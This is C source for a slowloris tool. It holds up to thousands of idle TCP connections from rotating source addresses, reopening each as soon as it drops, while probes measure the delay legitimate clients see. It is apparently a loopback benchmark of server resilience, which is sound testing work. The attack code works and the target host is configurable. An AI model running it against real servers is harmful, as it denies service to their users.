/* SPDX-License-Identifier: ISC */
/*
 * slowloris.c - a sustained slow-client attack on a TCP server, with a
 * probe that measures what a legitimate client waits meanwhile.
 *
 *   slowloris -p PORT [-h ADDR] [-m greeting|echo] [-a CONNS] [-b BYTES]
 *             [-s SRC] [-n NSRC] [-f FAST] [-F FASTSRC] [-P PROBESRC]
 *             [-i MS] [-r RAMP] [-d SECONDS] [-T TIMEOUT]
 *
 * Attack: CONNS connections spread round-robin over NSRC source addresses
 * counted up from SRC (each socket is bound to its source before
 * connect).  Each sends BYTES bytes ("x", no newline, no NUL) once
 * connected, 0 by default, and then nothing.  A silent one is what a
 * server that speaks first sees; one byte gets past TCP_DEFER_ACCEPT.
 * Whatever the server sends them is read and dropped; one the server
 * closes (or that fails) is opened again at once, so the attack is
 * sustained, not a single burst.
 *
 * Fast clients: FAST closed-loop clients from FASTSRC that speak the
 * protocol promptly (greeting: read the banner to its NUL, send a
 * message, wait for the close; echo: send "ping\n", read it back, close).
 *
 * Probe: from PROBESRC, a fresh connection every MS milliseconds, opened
 * on schedule whatever the previous ones are doing.  Its figure is the
 * time from connect() to the first byte of the reply: the banner in
 * greeting mode, the echo of the line "p\n" it sends at once in echo
 * mode (a line: Apache's mod_echo does not answer a lone byte).
 * A probe then finishes the exchange politely.  One that gets nothing
 * within TIMEOUT seconds, or is closed or refused before its first byte,
 * is a failure and counts as TIMEOUT in the percentiles.
 *
 * Timeline: the attack opens at 0, probes and fast clients are counted
 * from RAMP for SECONDS; then the attack is held until every probe has
 * its answer or its timeout (at most TIMEOUT more), and all is closed.
 * -a 0 measures the probe alone (the baseline).
 *
 * Prints a human summary and one "RESULT k=v ..." line.  Loopback use
 * only; everything is bounded by RAMP + SECONDS + TIMEOUT + 1 s.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MS	1000000LL
#define SEC	1000000000LL
#define TICK_MS	5

enum kind { K_ATTACK, K_PROBE, K_FAST };
enum state { S_IDLE, S_CONNECT, S_WAIT, S_DRAIN, S_DONE };

struct sconn {
	int		 fd;
	enum kind	 kind;
	enum state	 st;
	long long	 start;
	long long	 retry;		/* attack: when to open again */
	struct in_addr	 src;
	size_t		 got;
	int		 idx;		/* probe number */
};

static struct sockaddr_in	 g_dst;
static bool			 g_echo;
static int			 g_attack_send;
static int			 g_ep;
static long long		 g_win_start, g_win_end, g_timeout;

/* Probe outcomes. */
static long long		*g_lat;		/* ns; -1 while pending */
static int			 g_pending;
static long long		 g_timeouts, g_refused;
/* Attack and fast-client counters. */
static long long		 g_reopens, g_connfail, g_attack_bytes;
static long long		 g_fast_ok, g_fast_err;

static long long
now_ns(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * SEC + ts.tv_nsec;
}

static bool
in_window(long long t)
{
	return t >= g_win_start && t < g_win_end;
}

static void
drop(struct sconn *c)
{
	if (c->fd != -1) {
		epoll_ctl(g_ep, EPOLL_CTL_DEL, c->fd, NULL);
		close(c->fd);
	}
	c->fd = -1;
}

/* Opens c towards the server from its source address; 0 or -1. */
static int
sconn_open(struct sconn *c)
{
	struct sockaddr_in	 sin = { .sin_family = AF_INET };
	struct epoll_event	 ev;
	int			 one = 1;

	c->got = 0;
	c->start = now_ns();
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC,
	    0);
	if (c->fd == -1)
		return -1;
	setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	/* The port is chosen at connect(), per destination: many
	 * connections from one source address do not exhaust bind(). */
	setsockopt(c->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one,
	    sizeof(one));
	sin.sin_addr = c->src;
	if (bind(c->fd, (struct sockaddr *)&sin, sizeof(sin)) == -1 ||
	    (connect(c->fd, (struct sockaddr *)&g_dst, sizeof(g_dst)) == -1
	    && errno != EINPROGRESS)) {
		drop(c);
		return -1;
	}
	memset(&ev, 0, sizeof(ev));
	ev.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP;
	ev.data.ptr = c;
	if (epoll_ctl(g_ep, EPOLL_CTL_ADD, c->fd, &ev) == -1) {
		drop(c);
		return -1;
	}
	c->st = S_CONNECT;
	return 0;
}

static void
watch_in(struct sconn *c)
{
	struct epoll_event	 ev;

	memset(&ev, 0, sizeof(ev));
	ev.events = EPOLLIN | EPOLLRDHUP;
	ev.data.ptr = c;
	epoll_ctl(g_ep, EPOLL_CTL_MOD, c->fd, &ev);
}

/* An attack connection ended: open it again at once. */
static void
attack_again(struct sconn *c, long long now)
{
	drop(c);
	if (in_window(now))
		g_reopens++;
	if (sconn_open(c) == -1) {
		g_connfail++;
		c->st = S_IDLE;
		c->retry = now + TICK_MS * MS;
	}
}

static void
probe_result(struct sconn *c, long long lat)
{
	if (g_lat[c->idx] != -1)
		return;
	g_lat[c->idx] = lat;
	g_pending--;
}

static void
probe_fail(struct sconn *c, bool timeout)
{
	if (g_lat[c->idx] == -1) {
		if (timeout)
			g_timeouts++;
		else
			g_refused++;
		probe_result(c, g_timeout);
	}
	drop(c);
	c->st = S_DONE;
}

static void
fast_done(struct sconn *c, bool ok, long long now)
{
	if (in_window(now)) {
		if (ok)
			g_fast_ok++;
		else
			g_fast_err++;
	}
	drop(c);
	if (now < g_win_end && sconn_open(c) == -1) {
		c->st = S_IDLE;
		c->retry = now + TICK_MS * MS;
	}
}

/* Reads what is there; returns bytes read, 0 at EOF, -1 on error, and
 * -2 when nothing more is available now.  *nul is set when a NUL came. */
static ssize_t
slurp(struct sconn *c, bool *nul)
{
	char	 buf[4096];
	ssize_t	 n, total = 0;

	while ((n = recv(c->fd, buf, sizeof(buf), 0)) > 0) {
		total += n;
		c->got += (size_t)n;
		if (nul != NULL && memchr(buf, '\0', (size_t)n) != NULL)
			*nul = true;
	}
	if (n == 0)
		return total > 0 ? total : 0;
	if (errno != EAGAIN && errno != EWOULDBLOCK)
		return -1;
	return total > 0 ? total : -2;
}

static void
on_attack(struct sconn *c, uint32_t ev, long long now)
{
	ssize_t	 n;

	if (c->st == S_CONNECT) {
		int		 err = 0;
		socklen_t	 len = sizeof(err);

		getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
		if (err != 0) {
			attack_again(c, now);
			return;
		}
		if (g_attack_send > 0) {
			char	 x[64];

			memset(x, 'x', sizeof(x));
			send(c->fd, x, (size_t)g_attack_send, MSG_NOSIGNAL);
		}
		c->st = S_WAIT;
		watch_in(c);
		if (!(ev & (EPOLLIN | EPOLLRDHUP | EPOLLHUP)))
			return;
	}
	for (;;) {
		n = slurp(c, NULL);
		if (n > 0) {
			g_attack_bytes += n;
			continue;
		}
		if (n == -2)
			return;
		attack_again(c, now);
		return;
	}
}

static void
on_probe(struct sconn *c, uint32_t ev, long long now)
{
	bool	 nul = false;
	ssize_t	 n;

	if (c->st == S_CONNECT) {
		int		 err = 0;
		socklen_t	 len = sizeof(err);

		getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
		if (err != 0) {
			probe_fail(c, false);
			return;
		}
		if (g_echo && send(c->fd, "p\n", 2, MSG_NOSIGNAL) != 2) {
			probe_fail(c, false);
			return;
		}
		c->st = S_WAIT;
		watch_in(c);
		if (!(ev & (EPOLLIN | EPOLLRDHUP | EPOLLHUP)))
			return;
	}
	n = slurp(c, &nul);
	if (c->st == S_WAIT && c->got > 0) {
		probe_result(c, now - c->start);
		c->st = S_DRAIN;
	}
	if (c->st == S_WAIT) {
		if (n != -2)		/* closed or reset before a byte */
			probe_fail(c, false);
		return;
	}
	/* Finish politely: echo is done; greeting sends its message once
	 * the banner's NUL is in, then waits for the server's close. */
	if (g_echo || n == 0 || n == -1) {
		drop(c);
		c->st = S_DONE;
		return;
	}
	if (nul && send(c->fd, "probe", 6, MSG_NOSIGNAL) != 6) {
		drop(c);
		c->st = S_DONE;
	}
}

static void
on_fast(struct sconn *c, uint32_t ev, long long now)
{
	bool	 nul = false;
	ssize_t	 n;

	if (c->st == S_CONNECT) {
		int		 err = 0;
		socklen_t	 len = sizeof(err);

		getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
		if (err != 0) {
			fast_done(c, false, now);
			return;
		}
		if (g_echo && send(c->fd, "ping\n", 5, MSG_NOSIGNAL) != 5) {
			fast_done(c, false, now);
			return;
		}
		c->st = S_WAIT;
		watch_in(c);
		if (!(ev & (EPOLLIN | EPOLLRDHUP | EPOLLHUP)))
			return;
	}
	n = slurp(c, &nul);
	if (g_echo) {
		if (c->got >= 5)
			fast_done(c, true, now);
		else if (n != -2)
			fast_done(c, false, now);
		return;
	}
	if (c->st == S_WAIT && nul) {
		if (send(c->fd, "fast", 5, MSG_NOSIGNAL) != 5) {
			fast_done(c, false, now);
			return;
		}
		c->st = S_DRAIN;
	}
	if (n == 0 || n == -1)
		fast_done(c, c->st == S_DRAIN, now);
}

static int
cmp_ll(const void *a, const void *b)
{
	long long x = *(const long long *)a, y = *(const long long *)b;

	return (x > y) - (x < y);
}

static double
pct_ms(const long long *v, int n, double p)
{
	int	 i;

	if (n == 0)
		return 0;
	i = (int)(p * (double)(n - 1) + 0.5);
	return (double)v[i] / 1e6;
}

static void
usage(void)
{
	fprintf(stderr, "usage: slowloris -p PORT [-h ADDR] "
	    "[-m greeting|echo] [-a CONNS] [-b BYTES] [-s SRC] [-n NSRC]\n"
	    "                 [-f FAST] [-F FASTSRC] [-P PROBESRC] [-i MS] "
	    "[-r RAMP] [-d SECONDS] [-T TIMEOUT]\n");
	exit(64);
}

static bool
addr(const char *s, struct in_addr *a)
{
	return inet_pton(AF_INET, s, a) == 1;
}

int
main(int argc, char *argv[])
{
	const char		*host = "127.0.0.1", *mname = "greeting";
	const char		*src = "127.0.0.2", *fsrc = "127.0.0.64";
	const char		*psrc = "127.0.0.1";
	int			 port = 0, nattack = 0, nsrc = 1, nfast = 0;
	int			 nprobes, opened = 0, ch;
	double			 interval = 50, ramp = 1, secs = 20, tmo = 10;
	struct in_addr		 a_src, f_src, p_src;
	struct sconn		*attack, *fast, *probes;
	struct epoll_event	 evs[512];
	struct rlimit		 rl;
	long long		 t0, now, hard_end, last_sweep = 0;
	long long		*sorted;

	while ((ch = getopt(argc, argv, "p:h:m:a:b:s:n:f:F:P:i:r:d:T:")) != -1) {
		switch (ch) {
		case 'p': port = atoi(optarg); break;
		case 'h': host = optarg; break;
		case 'm': mname = optarg; break;
		case 'a': nattack = atoi(optarg); break;
		case 'b': g_attack_send = atoi(optarg); break;
		case 's': src = optarg; break;
		case 'n': nsrc = atoi(optarg); break;
		case 'f': nfast = atoi(optarg); break;
		case 'F': fsrc = optarg; break;
		case 'P': psrc = optarg; break;
		case 'i': interval = atof(optarg); break;
		case 'r': ramp = atof(optarg); break;
		case 'd': secs = atof(optarg); break;
		case 'T': tmo = atof(optarg); break;
		default: usage();
		}
	}
	if (strcmp(mname, "echo") == 0)
		g_echo = true;
	else if (strcmp(mname, "greeting") != 0)
		usage();
	if (port <= 0 || port > 65535 || nattack < 0 || nattack > 10000 ||
	    g_attack_send < 0 || g_attack_send > 64 ||
	    nsrc < 1 || nsrc > 200 || nfast < 0 || nfast > 256 ||
	    interval < 1 || ramp < 0 || ramp > 60 || secs <= 0 ||
	    secs > 300 || tmo <= 0 || tmo > 60)
		usage();
	g_dst.sin_family = AF_INET;
	g_dst.sin_port = htons((uint16_t)port);
	if (!addr(host, &g_dst.sin_addr) || !addr(src, &a_src) ||
	    !addr(fsrc, &f_src) || !addr(psrc, &p_src))
		usage();

	/* One descriptor per connection, and probes can pile up. */
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}

	nprobes = (int)(secs * 1000 / interval);
	attack = calloc((size_t)nattack + 1, sizeof(*attack));
	fast = calloc((size_t)nfast + 1, sizeof(*fast));
	probes = calloc((size_t)nprobes + 1, sizeof(*probes));
	g_lat = malloc(((size_t)nprobes + 1) * sizeof(*g_lat));
	sorted = malloc(((size_t)nprobes + 1) * sizeof(*sorted));
	if ((g_ep = epoll_create1(EPOLL_CLOEXEC)) == -1 || attack == NULL ||
	    fast == NULL || probes == NULL || g_lat == NULL ||
	    sorted == NULL) {
		perror("slowloris");
		return 1;
	}
	for (int i = 0; i < nprobes; i++) {
		g_lat[i] = -1;
		probes[i] = (struct sconn){ .fd = -1, .kind = K_PROBE,
		    .src = p_src, .idx = i };
	}
	g_pending = nprobes;
	g_timeout = (long long)(tmo * SEC);

	t0 = now_ns();
	g_win_start = t0 + (long long)(ramp * SEC);
	g_win_end = g_win_start + (long long)(secs * SEC);
	hard_end = g_win_end + g_timeout + SEC;

	for (int i = 0; i < nattack; i++) {
		struct sconn *c = &attack[i];

		*c = (struct sconn){ .fd = -1, .kind = K_ATTACK };
		c->src.s_addr = htonl(ntohl(a_src.s_addr) + (uint32_t)(i % nsrc));
		if (sconn_open(c) == -1) {
			g_connfail++;
			c->st = S_IDLE;
			c->retry = t0 + TICK_MS * MS;
		}
	}
	for (int i = 0; i < nfast; i++) {
		fast[i] = (struct sconn){ .fd = -1, .kind = K_FAST,
		    .src = f_src, .st = S_IDLE, .retry = g_win_start };
	}

	for (;;) {
		long long	 next, wait;
		int		 n;

		now = now_ns();
		if (now >= hard_end || (now >= g_win_end && opened == nprobes
		    && g_pending == 0))
			break;
		next = opened < nprobes ?
		    g_win_start + (long long)(opened * interval * MS) :
		    now + TICK_MS * MS;
		wait = (next - now) / MS;
		if (wait > TICK_MS)
			wait = TICK_MS;
		if (wait < 0)
			wait = 0;
		n = epoll_wait(g_ep, evs, 512, (int)wait);
		now = now_ns();
		for (int i = 0; i < n; i++) {
			struct sconn *c = evs[i].data.ptr;

			if (c->fd == -1)
				continue;
			if (c->kind == K_ATTACK)
				on_attack(c, evs[i].events, now);
			else if (c->kind == K_PROBE)
				on_probe(c, evs[i].events, now);
			else
				on_fast(c, evs[i].events, now);
		}
		now = now_ns();
		/* Probes on schedule, whatever the earlier ones do. */
		while (opened < nprobes && now >= g_win_start +
		    (long long)(opened * interval * MS)) {
			struct sconn *c = &probes[opened++];

			if (sconn_open(c) == -1)
				probe_fail(c, false);
		}
		if (now - last_sweep < TICK_MS * MS)
			continue;
		last_sweep = now;
		for (int i = 0; i < nattack; i++)
			if (attack[i].fd == -1 && attack[i].retry <= now)
				attack_again(&attack[i], now);
		for (int i = 0; i < nfast; i++) {
			struct sconn *c = &fast[i];

			if (c->fd == -1 && c->retry <= now &&
			    now < g_win_end) {
				if (sconn_open(c) == -1)
					c->retry = now + TICK_MS * MS;
			} else if (c->fd != -1 && now - c->start > g_timeout)
				fast_done(c, false, now);
		}
		for (int i = 0; i < opened; i++)
			if (probes[i].fd != -1 && probes[i].st != S_DONE &&
			    now - probes[i].start > g_timeout)
				probe_fail(&probes[i], g_lat[i] == -1);
	}

	/* Unanswered at the hard end (cannot happen unless the clock
	 * jumped): failures too. */
	for (int i = 0; i < nprobes; i++) {
		if (g_lat[i] == -1) {
			g_timeouts++;
			g_lat[i] = g_timeout;
		}
		drop(&probes[i]);
	}
	for (int i = 0; i < nattack; i++)
		drop(&attack[i]);
	for (int i = 0; i < nfast; i++)
		drop(&fast[i]);

	memcpy(sorted, g_lat, (size_t)nprobes * sizeof(*sorted));
	qsort(sorted, (size_t)nprobes, sizeof(*sorted), cmp_ll);
	printf("%s: %d attack connections from %d sources, %d fast clients, "
	    "%d probes: p50 %.1f ms, p99 %.1f ms, max %.1f ms, %lld failed "
	    "(%lld timed out, %lld closed or refused)\n", mname, nattack,
	    nattack ? nsrc : 0, nfast, nprobes, pct_ms(sorted, nprobes, 0.5),
	    pct_ms(sorted, nprobes, 0.99), pct_ms(sorted, nprobes, 1.0),
	    g_timeouts + g_refused, g_timeouts, g_refused);
	printf("RESULT mode=%s attack=%d sent=%d sources=%d fast=%d secs=%.1f "
	    "probes=%d failed=%lld timeouts=%lld refused=%lld p50_ms=%.1f "
	    "p99_ms=%.1f max_ms=%.1f timeout_ms=%.0f reopens=%lld "
	    "connfail=%lld fast_cps=%.0f fast_errors=%lld\n", mname, nattack,
	    g_attack_send, nattack ? nsrc : 0, nfast, secs, nprobes,
	    g_timeouts + g_refused, g_timeouts, g_refused,
	    pct_ms(sorted, nprobes, 0.5),
	    pct_ms(sorted, nprobes, 0.99), pct_ms(sorted, nprobes, 1.0),
	    tmo * 1000, g_reopens, g_connfail, (double)g_fast_ok / secs,
	    g_fast_err);
	free(sorted);
	free(g_lat);
	free(probes);
	free(fast);
	free(attack);
	close(g_ep);
	return 0;
}
